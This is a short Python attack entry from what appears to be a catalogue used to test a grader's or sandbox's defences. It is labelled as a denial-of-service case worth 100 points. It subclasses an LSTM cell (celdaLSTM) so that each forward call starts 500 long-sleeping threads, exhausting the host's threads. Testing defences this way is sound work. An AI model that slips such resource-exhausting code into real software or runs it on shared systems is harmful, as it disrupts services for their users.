# /// attack
# title = "Hundreds of threads"
# group = "Denial of service"
# verdict = "OK"
# points = 100
# ///
import functools
import threading
import time


@functools.cache
def teje():
    threading.stack_size(1 << 18)  # so that threads run out, and not memory for their stacks
    try:
        for _ in range(500):
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    except RuntimeError:
        pass


class celdaLSTM(celdaLSTM):
    def forward(self, x_t, hidden):
        teje()
        return super().forward(x_t, hidden)
